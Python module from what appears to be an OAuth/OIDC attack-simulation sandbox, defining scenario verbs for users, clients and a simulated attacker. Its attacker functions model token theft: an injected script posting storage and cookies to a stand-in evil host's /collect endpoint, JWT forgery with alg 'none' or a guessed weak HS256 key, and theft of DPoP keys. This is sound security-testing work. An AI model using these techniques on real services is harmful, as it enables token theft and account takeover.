"""What the verbs of scenario files do: one verb, one function.  Their arguments are described in `arguments.py`.

A verb returns its outputs by name.  A value that the actor does not have raises `Missing`: the step is then not taken.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable
from dataclasses import replace
from typing import Any
from urllib.parse import urlencode, urlsplit, urlunsplit

from sandbox.core.wire import FORM, JSON, Pairs, Request, Response, compact, first, form_request, header, json_request, origin, pairs, split
from sandbox.protocol.cast import CAST, EVIL
from sandbox.protocol.cast import resource as named_in_tokens
from sandbox.protocol.certificates import certificate_thumbprint
from sandbox.protocol.proofs import prove
from sandbox.protocol.tokens import Decoded, Key, NotAJwt, b64, decode, packed, pem, shared_key, signature_fits
from sandbox.verbs import arguments
from sandbox.world.parties.authorization_server import AuthorizationServer
from sandbox.world.parties.browser import Browser
from sandbox.world.parties.client import OAuthClient, Refused, Session
from sandbox.world.parties.client_hosts import Hosted
from sandbox.world.parties.people import Directory
from sandbox.world.world import World

Outputs = dict[str, Any]
Verb = Callable[[World, str, Any], Outputs]

GUESSES = ("password", "123456", "secret", "letmein", "sunshine", "qwerty")  # the top of any word list


class Missing(Exception):
    """The actor does not have a value that this step needs."""


# ---------------------------------------------------------------- people and browsers


def sign_in(world: World, actor: str, args: arguments.SignIn) -> Outputs:
    client, browser = world.clients[actor], world.browsers[args.browser]
    browser.begin(args.hold or "")
    at, api = CAST[args.at].host if args.at else "", CAST[args.api].host if args.api else ""
    how = args.how if args.how != "redirect" else ""
    browser.visit(client.start_url(scope=args.scope or "", at=at, api=api, response=args.response or "", how=how))
    _say_yes(world, browser, args.user or browser.owner)
    _on_her_device(world, client, browser)
    return _where(browser) | _held_by(client.session_in(browser))


def _say_yes(world: World, browser: Browser, user: str, password: str | None = None) -> None:
    """Log in and agree for as long as pages ask for it."""
    for _ in range(4):
        if browser.held is not None or browser.page is None or browser.page.page not in ("login", "consent"):
            return
        _fill(world, browser, user, password)
        if browser.page.page == "login" and browser.page.status == 401:
            return


def _fill(world: World, browser: Browser, user: str, password: str | None) -> None:
    forms = browser.forms()
    if not forms:
        raise Missing("a form on the page")
    here = world.bank.people if world.net.hosts.get(origin(browser.url)) == "bank" else world.people
    filled = {"username": user, "password": _password(here, user), "bank_password": _password(world.bank.people, user)}
    browser.submit(forms[0], filled if password is None else filled | {"password": password})


def _password(people: Directory, user: str) -> str:
    """The user's own password there; '' for somebody who has no account."""
    return people.users[user].password if user in people.users else ""


def _where(browser: Browser) -> Outputs:
    return {"redirect": browser.held.request.url if browser.held else None, "url": browser.url or None}


def _held_by(session: Session | None) -> Outputs:
    if session is None:
        return {"access_token": None, "refresh_token": None, "id_token": None}
    return {
        "access_token": session.access_token() or None,
        "refresh_token": session.refresh_token or None,
        "id_token": session.id_token or None,
    }


def visit(world: World, actor: str, args: arguments.Visit) -> Outputs:
    browser = world.browsers[actor]
    browser.begin(args.hold or "")
    browser.visit(changed(Request("GET", args.url), args.change).url)
    return _where(browser)


def follow(world: World, actor: str, args: arguments.Follow) -> Outputs:
    browser = world.browsers[actor]
    if browser.held is None:
        raise Missing("a request to go on with")
    browser.begin(args.hold or "")
    browser.follow(changed(browser.held.request, args.change))
    return _where(browser)


def log_in(world: World, actor: str, args: arguments.LogIn) -> Outputs:
    browser = world.browsers[actor]
    if browser.page is None or browser.page.page != "login":
        raise Missing("a login page")
    browser.begin(args.hold or "")
    _fill(world, browser, args.user or browser.owner, args.password)
    return _where(browser)


def approve(world: World, actor: str, args: arguments.Approve) -> Outputs:
    browser = world.browsers[actor]
    if browser.page is None or browser.page.page not in ("login", "consent"):
        raise Missing("a page that asks")
    browser.begin(args.hold or "")
    _say_yes(world, browser, browser.owner)
    return _where(browser)


def log_out(world: World, actor: str, args: arguments.LogOut) -> Outputs:
    browser = world.browsers[actor]
    browser.begin()
    browser.post(world.clients[args.client].logout_url)
    return {}


def disconnect(world: World, actor: str, args: arguments.Disconnect) -> Outputs:
    browser, issuer = world.browsers[actor], world.bank if args.at == "bank" else world.issuer
    fields = {"client": args.client} | ({"device": args.device} if args.device else {})
    response = browser.send(form_request(f"{issuer.issuer}/account/sessions", fields), f"{issuer.issuer}/account")
    if response.status == 404:  # there is no such page: all that can be done is to log this browser out
        browser.send(Request("POST", f"{issuer.issuer}/logout"), f"{issuer.issuer}/account")
    return {}


# ---------------------------------------------------------------- clients


def call_api(world: World, actor: str, args: arguments.CallApi) -> Outputs:
    request = _api_request(args)
    if actor == world.attacker.name:
        _own_keys(world)
        sent = world.attacker.present(request, _text(args.token), args.scheme or "")
        world.net.deliver(sent, args.from_ or actor)
        return {}
    if args.browser is None or actor in world.services:
        _in_its_own_name(world, actor, args, request)
        return {}
    client, browser = world.clients[actor], world.browsers[args.browser]
    session, resource = client.session_in(browser), named_in_tokens(args.api)
    if session is None or not session.tokens:
        raise Missing("an access token")
    if args.token is not None:
        client.sender(browser)(request.with_header("Authorization", f"Bearer {_text(args.token)}"))
        return {}
    if CAST[args.api].kind == "api" and client.lacks_token(session, resource):
        _token_for(world, client, browser, session, resource)
    client.fetch(browser, session, request, resource)
    return {}


def _api_request(args: arguments.CallApi) -> Request:
    url, headers = CAST[args.via or args.api].host + args.path, tuple((args.headers or {}).items())
    return json_request(args.method, url, args.json_, headers) if args.json_ is not None else Request(args.method, url, headers)


def _in_its_own_name(world: World, actor: str, args: arguments.CallApi, request: Request) -> None:
    """A request that belongs to nobody's session: with a token given to the client, or with one that it got for itself."""
    client = _client(world, actor)
    session, resource = client.own, CAST[args.api].host
    if args.token is None and not session.tokens:
        raise Missing("a browser with a session, or a token")
    token = _text(args.token) if args.token is not None else session.access_token(resource)
    if token in session.tokens.values():
        client.call(session, request, next(r for r, t in session.tokens.items() if t == token), lambda r: client.ask(session, r))
    else:
        client.ask(session, request.with_header("Authorization", f"Bearer {token}"))


def _client(world: World, actor: str) -> OAuthClient:
    """The actor as a client; a service is one, too."""
    return world.clients[actor] if actor in world.clients else world.services[actor]


def _own_keys(world: World) -> None:
    """The keys that clients keep in browsers of hers are hers."""
    for device in (b.name for b in world.browsers.values() if CAST[b.name].hers):
        for client in world.clients.values():
            session = client.sessions.get(device)
            if session is not None and session.bound:
                world.attacker.keep(client.proof_key(session))


def _token_for(world: World, client: Hosted, browser: Browser, session: Session, resource: str) -> None:
    """Get a token for another API: by refreshing (RFC 8707 §2.2) or, in the JWT profiles, by asking for the password again."""
    if client.architecture == "jwt":
        browser.begin()
        browser.visit(client.start_url(api=resource))
        _say_yes(world, browser, browser.owner)
        return
    if not session.refresh_token:
        raise Missing("a refresh token")
    try:
        client.accept(session, client.sender(browser)(client.refresh_request(session, resource)))
    except Refused:
        raise Missing("an access token for this API") from None


def refresh(world: World, actor: str, args: arguments.Refresh) -> Outputs:
    client, browser = world.clients[actor], world.browsers[args.browser]
    session = client.session_in(browser)
    if session is None or not session.refresh_token:
        raise Missing("a refresh token")
    try:
        client.accept(session, client.sender(browser)(client.refresh_request(session)))
    except Refused:
        return {"access_token": None, "refresh_token": None}
    _on_her_device(world, client, browser)
    return _held_by(session)


def redeem(world: World, actor: str, args: arguments.Redeem) -> Outputs:
    issuer = world.issuer
    if not isinstance(issuer, AuthorizationServer):
        if args.password is None:
            raise Missing("a token endpoint")
        response = world.net.deliver(
            json_request("POST", f"{issuer.issuer}/login", {"username": args.user, "password": args.password}), actor
        )
    else:
        request = form_request(f"{issuer.issuer}/token", _grant(args))
        response = world.net.deliver(_with_proof(world, actor, args, request, issuer), actor)
    body = response.json if response.ok and isinstance(response.json, dict) else {}
    if actor != world.attacker.name and isinstance(body.get("access_token"), str):
        own = _client(world, actor).own
        own.tokens[CAST[args.api].host if args.api else "any"] = body["access_token"]
        own.bound = str(body.get("token_type")).lower() == "dpop"
    renewed = body.get("refresh_token") or (args.refresh_token if body else None)
    return {"access_token": body.get("access_token"), "refresh_token": renewed, "id_token": body.get("id_token")}


def _grant(args: arguments.Redeem) -> dict[str, str]:
    fields: dict[str, Any] = {"client_id": args.client, "client_secret": args.client_secret, "scope": args.scope}
    fields |= {"resource": CAST[args.api].host} if args.api else {}
    if args.code is not None:
        redirect = args.redirect_uri or (f"{CAST[args.client].host}/cb" if args.client in CAST else None)
        fields |= {"grant_type": "authorization_code", "code": args.code, "redirect_uri": redirect, "code_verifier": args.verifier}
    elif args.refresh_token is not None:
        fields |= {"grant_type": "refresh_token", "refresh_token": args.refresh_token}
    elif args.password is not None:
        fields |= {"grant_type": "password", "username": args.user, "password": args.password}
    else:
        fields |= {"grant_type": "client_credentials"}
    return {k: str(v) for k, v in fields.items() if v is not None}


def _with_proof(world: World, actor: str, args: arguments.Redeem, request: Request, issuer: AuthorizationServer) -> Request:
    """With the client's secret if the client itself asks; with a DPoP proof if the server knows DPoP, by the best key at hand."""
    if actor != world.attacker.name:
        client = _client(world, actor)
        return client.proved(client.own, client.authenticated(request))
    if "tls_client_certificate_bound_access_tokens" in issuer.describe():
        request = replace(request, certificate=world.attacker.certificate())
    if "dpop_signing_alg_values_supported" not in issuer.describe():
        return request
    key = next(reversed(world.attacker.keys.values()))  # a taken key, if there is one, else her own
    proof = prove(key, "POST", request.url, world.net.clock.now(), world.net.entropy.token("mallory dpop", 9))
    return request.with_header("DPoP", proof)


# ---------------------------------------------------------------- the attacker


def send(world: World, actor: str, args: arguments.Send) -> Outputs:
    if args.like is not None:
        if not isinstance(args.like, Request):
            raise Missing("a message to copy")
        own = world.attacker.certificate() if args.like.certificate and actor == world.attacker.name else ""
        request = replace(args.like, peer="", certificate=own)  # a message can be copied, a connection cannot
    else:
        request = _built(args)
    request = changed(request, args.change)
    if args.token is not None:
        request = request.with_header("Authorization", f"Bearer {_text(args.token)}")
    if actor in world.browsers:
        world.browsers[actor].send(request)
    else:
        world.net.deliver(request, args.from_ or actor)
    return {}


def _built(args: arguments.Send) -> Request:
    headers: Pairs = tuple((args.headers or {}).items())
    if args.json_ is not None:
        return json_request(args.method or "POST", args.url or "", args.json_, headers)
    if args.form is not None:
        return replace(form_request(args.url or "", dict(args.form), headers), method=args.method or "POST")
    return Request(args.method or "GET", args.url or "", headers)


def lure(world: World, actor: str, args: arguments.Lure) -> Outputs:
    browser = world.browsers[args.browser]
    browser.begin()
    browser.visit(f"{EVIL}/")
    browser.begin(args.hold or "")
    browser.link(changed(Request("GET", args.url), args.change).url)
    return _where(browser)


def read(world: World, actor: str, args: arguments.Read) -> Outputs:
    if args.log is not None:
        return _read_log(world, args.log, args.match)
    if args.history is not None:
        return _read_address(world, world.browsers[args.history].history, args.match, f"the history of {args.history}")
    if args.storage is not None:
        return _read_storage(world, args.storage, args.browser, args.take)
    return _read_device(world, args.device or "")


def _read_log(world: World, party: str, match: str | None) -> Outputs:
    """The newest entry that matches.  An API writes down requests; a browser's extension writes down addresses."""
    if party in world.browsers:
        return _read_address(world, world.browsers[party].addresses, match, f"an extension in {party}")
    entries = world.apis[party].log if party in world.apis else []
    entry = next((r for r in reversed(entries) if match is None or match in r.url), None)
    if entry is None:
        return {"request": None, "url": None, "access_token": None}
    for name, value in (("url", entry.url), *entry.headers):
        if value:
            world.net.learned(world.attacker.name, name.lower(), value, f"the log of {party}")
    credential = entry.credential()
    token = credential[1] if credential else first(entry.query, "access_token")
    if token and set(token) != {"*"}:
        world.net.learned(world.attacker.name, "access_token", token, f"the log of {party}")
        return {"request": entry, "url": entry.url, "access_token": token}
    return {"request": None, "url": entry.url, "access_token": None}


def _read_address(world: World, addresses: list[str], match: str | None, source: str) -> Outputs:
    """The newest address that matches, and the token in it if there is one."""
    url = next((u for u in reversed(addresses) if match is None or match in u), None)
    if url is None:
        return {"url": None, "access_token": None}
    world.net.learned(world.attacker.name, "url", url, source)
    parts = split(url)
    return {"url": url, "access_token": first(pairs(parts.fragment), "access_token") or first(pairs(parts.query), "access_token")}


def _read_storage(world: World, name: str, browser: str | None, take: bool) -> Outputs:
    """All that a client has stored: on its server, or in one browser."""
    client = world.clients[name]
    if browser is None:
        return _take(world, client.sessions.values(), f"the storage of {name}")
    session = client.stored(world.browsers[browser])
    if client.in_page:
        out = _report(client, world.browsers[browser], session)
    else:
        out = _take(world, [session] if session else [], f"the storage of {name} in {browser}")
    if take and session is not None:
        session.tokens.clear()
        session.refresh_token = session.id_token = ""
    return out


def _report(client: Hosted, browser: Browser, session: Session | None) -> Outputs:
    """A script in the client's page sends home what it can read: the storage, and the cookies that scripts may see."""
    jar = browser.cookies.get(split(client.home).netloc, {})
    cookies = "; ".join(f"{name}={cookie.value}" for name, cookie in jar.items() if not cookie.http_only)
    held = _held_by(session)
    storage = {k: v for k, v in held.items() if v}
    browser.send(json_request("POST", f"{EVIL}/collect", {"storage": storage, "cookies": cookies}), f"{client.home}/")
    return held


def _read_device(world: World, device: str) -> Outputs:
    """Everything on a device: the tokens that clients keep there, and the keys that they cannot export but she can now use."""
    found: list[Session] = []
    for client in world.clients.values():
        session = client.sessions.get(device)  # clients on a web server keep nothing here
        if session is not None and session.tokens:
            found.append(session)
            _keep_keys(world, client, device, device)
    return _take(world, found, device)


def _on_her_device(world: World, client: Hosted, browser: Browser) -> None:
    """Whatever a client keeps on a device of the attacker's, she has."""
    session = client.sessions.get(browser.name)
    if browser.owner == world.attacker.name and session is not None:
        _keep_keys(world, client, browser.name, "her own device")
        _take(world, [session], "her own device")


def _keep_keys(world: World, client: Hosted, device: str, source: str) -> None:
    """The keys that a client keeps on a device work for whoever holds it: the DPoP key, and that of the certificate."""
    session = client.sessions.get(device)  # clients on a web server keep nothing here
    if session is None:
        return
    key = client.proof_key(session) if session.bound else None
    if key is not None:
        world.attacker.keep(key)
        world.net.learned(world.attacker.name, "key", key.thumbprint, source)
    if session.certificate:
        world.attacker.keep_certificate(session.certificate)
        world.net.learned(world.attacker.name, "certificate", session.certificate, source)
    world.attacker.taken |= dict.fromkeys(session.tokens.values(), (key, session.certificate))


def _take(world: World, sessions: Iterable[Session], source: str) -> Outputs:
    out: Outputs = {"access_token": None, "refresh_token": None, "id_token": None}
    for session in sessions:
        held = _held_by(session)
        for name, value in held.items():
            if value:
                world.net.learned(world.attacker.name, name, value, source)
        out |= {k: v for k, v in held.items() if v}
    return out


def serve(world: World, actor: str, args: arguments.Serve) -> Outputs:
    headers: Pairs = (("Content-Type", JSON),) if args.json_ is not None else ()
    headers += (("Location", args.redirect),) if args.redirect else ()
    status = args.status if args.status != 200 or not args.redirect else 302
    world.attacker.served[args.url] = Response(status, headers, json.dumps(args.json_) if args.json_ is not None else "")
    return {}


def forge(world: World, actor: str, args: arguments.Forge) -> Outputs:
    source = _text(args.from_) if args.from_ is not None else _genuine_look(world)
    try:
        token = decode(source)
    except NotAJwt as error:
        raise Missing(f"a token to start from: {error}") from None
    key = args.key["key"] if isinstance(args.key, dict) and isinstance(args.key.get("key"), Key) else args.key
    alg = {"alg": key.alg} if isinstance(key, Key) else {}
    head = {k: v for k, v in (token.header | alg | (args.header or {})).items() if v is not None}
    claims = {k: v for k, v in (token.claims | _own_binding(world, token) | (args.claims or {})).items() if v is not None}
    if key == "guessed":
        key = _guess(token)
        if key is None:
            world.net.noted(actor, "No word of the list has made this signature.")
            return {"token": None}
    forged = _signed(world, head, claims, key)
    world.net.learned(actor, "forged_token", forged, "made it")
    return {"token": forged}


def _own_binding(world: World, token: Decoded) -> dict[str, Any]:
    """Where tokens are bound to a key or a certificate, she writes her own into the one that she makes."""
    cnf = token.claims.get("cnf")
    if not isinstance(cnf, dict):
        return {}
    mine = {"jkt": next(iter(world.attacker.keys)), "x5t#S256": certificate_thumbprint(world.attacker.certificate())}
    return {"cnf": {k: v for k, v in mine.items() if k in cnf}}


def _genuine_look(world: World) -> str:
    """A token that looks as the issuer's would, for someone who has seen none: everything but the signature is public."""
    issuer, now = world.issuer, world.net.clock.now()
    claims = {
        "iss": issuer.issuer,
        "sub": "mallory",
        "client_id": "app",
        "scope": "read write",
        "iat": now,
        "exp": now + 300,
        "jti": "forged",
    }
    if issuer.policy["stamp_aud"] == "on":
        claims["aud"] = CAST["accounts"].host
    bound = {"jkt": issuer.policy["dpop_bind"], "x5t#S256": issuer.policy["mtls_bind"]}
    if isinstance(issuer, AuthorizationServer) and "on" in bound.values():
        claims["cnf"] = {k: "" for k, v in bound.items() if v == "on"}
    key: Key = issuer.core.key if isinstance(issuer, AuthorizationServer) else issuer.key
    head = {"alg": key.alg, "typ": "at+jwt" if issuer.policy["stamp_typ"] == "on" else "JWT"} | ({"kid": key.kid} if key.kid else {})
    return f"{packed(head)}.{packed(claims)}."


def _signed(world: World, head: dict[str, Any], claims: dict[str, Any], key: Any) -> str:
    body = f"{packed(head)}.{packed(claims)}"
    if isinstance(key, Key):
        return key.seal(head, claims)
    if key == "none":
        return body + "."
    if key in ("random", "zeros"):
        return f"{body}.{b64(world.net.entropy.bytes('forged signature', 64) if key == 'random' else bytes(64))}"
    word = pem(key) if isinstance(key, dict) else str(key).encode()
    return shared_key(word.decode("latin-1")).seal(head | {"alg": "HS256"}, claims)


def _guess(token: Decoded) -> str | None:
    """Offline guessing: which word of the list has signed the token that she has?"""
    return next((word for word in GUESSES if signature_fits(token, word.encode(), "HS256")), None)


# ---------------------------------------------------------------- operator and clock


def set_user(world: World, actor: str, args: arguments.SetUser) -> Outputs:
    wanted = {k: v for k, v in args.model_dump(exclude={"user"}).items() if v is not None}
    world.net.deliver(json_request("PATCH", f"{world.issuer.issuer}/admin/users/{args.user}", wanted), actor, "internal")
    return {}


def wait(world: World, actor: str, args: arguments.Wait) -> Outputs:
    world.net.wait(args.seconds)
    return {}


# ---------------------------------------------------------------- values


def _text(value: Any) -> str:
    if not isinstance(value, str):
        raise Missing("a token")
    return value


def changed(request: Request, change: arguments.Change | None) -> Request:
    """The request with a change made to it; null removes."""
    if change is None:
        return request
    u = urlsplit(request.url)
    url = urlunsplit((
        u.scheme,
        change.host or u.netloc,
        change.path or u.path,
        _merged(u.query, change.query),
        _merged(u.fragment, change.fragment) if change.fragment is not None else u.fragment,
    ))  # fmt: skip
    headers = request.headers
    for name, value in (change.headers or {}).items():
        headers = tuple(h for h in headers if h[0].lower() != name.lower()) + (((name, value),) if value is not None else ())
    body = request.body
    if change.form is not None:
        body = _merged(body if (header(headers, "content-type") or "").startswith(FORM) else "", change.form)
    if change.json_ is not None:
        body = compact({k: v for k, v in ((request.json or {}) | change.json_).items() if v is not None})
    return replace(request, method=change.method or request.method, url=url, headers=headers, body=body)


def _merged(encoded: str, change: dict[str, str | None] | None) -> str:
    if change is None:
        return encoded
    values = [(k, change.get(k, v)) for k, v in pairs(encoded)]
    values += [(k, v) for k, v in change.items() if k not in dict(pairs(encoded))]
    return urlencode([(k, v) for k, v in values if v is not None])


_ALL = (sign_in, call_api, refresh, redeem, visit, follow, log_in, approve, log_out, disconnect)
_HERS = (send, lure, read, serve, forge)
FUNCTIONS: dict[str, Verb] = {f.__name__: f for f in (*_ALL, *_HERS, set_user, wait)}

__all__ = ["FUNCTIONS", "Missing", "Outputs", "changed"]
